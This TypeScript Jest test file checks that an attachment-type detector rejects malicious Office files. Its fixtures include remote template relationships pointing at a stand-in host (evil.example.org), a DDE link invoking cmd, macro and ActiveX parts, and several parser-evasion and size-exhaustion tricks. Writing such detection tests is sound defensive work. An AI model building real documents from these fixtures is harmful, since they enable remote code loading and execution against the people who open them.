import { afterAll, describe, expect, it } from '@jest/globals';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { typeOfFile } from '../../src/features/attachments/attachment-type.js';
import { zipped, type ZipEntry } from '../imports/zip-file.js';

const folder = mkdtempSync(join(tmpdir(), 'school-directory-office-'));
afterAll(() => rmSync(folder, { recursive: true }));

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const TEMPLATE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
const ofKind = (kind: string): string => TEMPLATE.replace('attachedTemplate', kind);
const relations = (inner: string): string => `<Relationships>${inner}</Relationships>`;
const elsewhere = (type: string, mode = 'External'): string =>
  `<Relationship Id="rId1" Type="${type}" Target="https://evil.example.org/t.dotm" TargetMode="${mode}"/>`;

/** A document, and whatever else is in the file. */
function typeWith(further: ZipEntry[], types = ''): Promise<string | null> {
  const path = join(folder, 'file.docx');
  const kind = `<Override PartName="/word/document.xml" ContentType="${DOCX}.main+xml"/>`;
  writeFileSync(
    path,
    zipped([
      { name: '[Content_Types].xml', content: `<Types>${kind}${types}</Types>` },
      { name: 'word/document.xml', content: '<w:document/>' },
      ...further,
    ]),
  );
  return typeOfFile(path);
}

const SETTINGS = 'word/_rels/settings.xml.rels';

describe('An Office file', () => {
  it.each<[string, ZipEntry[], string?]>([
    ['has macros', [{ name: 'word/vbaProject.bin', content: 'x' }]],
    ['has macros in another spelling', [{ name: 'word/VBAPROJECT.BIN', content: 'x' }]],
    ['has controls', [{ name: 'word/activeX/activeX1.bin', content: 'x' }]],
    [
      'says that it has macros',
      [],
      '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    ],
    [
      'is one with macros by its type',
      [],
      '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
    ],
    ['loads a template from elsewhere', [{ name: SETTINGS, content: relations(elsewhere(TEMPLATE)) }]],
    [
      'loads one and hides it in references',
      [{ name: SETTINGS, content: relations(elsewhere(TEMPLATE.replace('T', '&#84;'), 'Ex&#x74;ernal')) }],
    ],
    [
      'loads one in another encoding',
      [{ name: SETTINGS, content: Buffer.from(relations(elsewhere(TEMPLATE)), 'utf16le') }],
    ],
    ['describes more than a file can have', [{ name: SETTINGS, content: 'x'.repeat(1_000_001) }]],
    [
      'hides what it loads behind a sign in another attribute',
      [{ name: SETTINGS, content: relations(elsewhere(TEMPLATE).replace('Id="rId1"', 'Id="a>b"')) }],
    ],
    [
      'hides it in an entity of its own',
      [
        {
          name: SETTINGS,
          content: `<!DOCTYPE r [<!ENTITY e "External">]>${relations(elsewhere(TEMPLATE, '&e;'))}`,
        },
      ],
    ],
    ['has a document type at all', [{ name: SETTINGS, content: `<!DOCTYPE Relationships>${relations('')}` }]],
    [
      'hides it in the namespace of another prefix',
      [{ name: SETTINGS, content: elsewhere(TEMPLATE).replaceAll('Relationship ', 'r:Relationship ') }],
    ],
    [
      'says that it is in an encoding of another time',
      [{ name: SETTINGS, content: `<?xml version="1.0" encoding="UTF-7"?>${relations('')}` }],
    ],
    ['is not well-formed where it says what it is made of', [{ name: SETTINGS, content: '<Relationships>' }]],
    [
      'has more parts than a file can have',
      Array.from({ length: 5_000 }, (_, at) => ({ name: `p${at}`, content: '' })),
    ],
    [
      'describes more in all than a file can have',
      Array.from({ length: 5 }, (_, at) => ({
        name: `word/_rels/p${at}.xml.rels`,
        content: `${relations('')}${' '.repeat(900_000)}`,
      })),
    ],
    [
      'has more that says what it is made of than a file can have',
      Array.from({ length: 500 }, (_, at) => ({
        name: `word/_rels/p${at}.xml.rels`,
        content: relations(''),
      })),
    ],
    [
      'says it deeper than anybody writes',
      [{ name: SETTINGS, content: `${'<a>'.repeat(65)}${'</a>'.repeat(65)}` }],
    ],
    [
      'says it with more attributes than there are',
      [{ name: SETTINGS, content: `<a ${Array.from({ length: 65 }, (_, at) => `a${at}=""`).join(' ')}/>` }],
    ],
    ...['image', 'oleObject', 'frame', 'subDocument', 'video', 'audio', 'slicerCache', 'externalLink'].map(
      (kind): [string, ZipEntry[]] => [
        `loads something from elsewhere: ${kind}`,
        [{ name: 'word/_rels/document.xml.rels', content: relations(elsewhere(ofKind(kind))) }],
      ],
    ),
    ...['External', 'Internal'].map((mode): [string, ZipEntry[]] => [
      `puts another file in its place: ${mode}`,
      [{ name: 'word/_rels/document.xml.rels', content: relations(elsewhere(ofKind('aFChunk'), mode)) }],
    ]),
    ...['connections', 'queryTable'].map((kind): [string, ZipEntry[]] => [
      `fetches data when it is opened: ${kind}`,
      [{ name: 'xl/_rels/workbook.xml.rels', content: relations(elsewhere(ofKind(kind), 'Internal')) }],
    ]),
    [
      'asks another program for its cells',
      [
        {
          name: 'xl/externalLinks/externalLink1.xml',
          content: '<x:externalLink><x:ddeLink ddeService="cmd"/></x:externalLink>',
        },
      ],
    ],
    [
      'asks one from a place where nobody looks',
      [],
      '<Override PartName="/xl/a.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>',
    ],
  ])('counts as none of the types when it %s', async (_, further, types = '') => {
    expect(await typeWith(further, types)).toBeNull();
  });

  it.each<[string, ZipEntry[]]>([
    ['has nothing more', []],
    [
      'has a link',
      [{ name: SETTINGS, content: relations(elsewhere(TEMPLATE.replace('attachedTemplate', 'hyperlink'))) }],
    ],
    [
      'is linked to another workbook',
      [
        {
          name: 'xl/externalLinks/externalLink1.xml',
          content: '<externalLink><externalBook/></externalLink>',
        },
        {
          name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
          content: relations(elsewhere(ofKind('externalLinkPath'))),
        },
      ],
    ],
    ['has its template in itself', [{ name: SETTINGS, content: relations(elsewhere(TEMPLATE, 'Internal')) }]],
  ])('counts as a document when it %s', async (_, further) => {
    expect(await typeWith(further)).toBe(DOCX);
  });
});
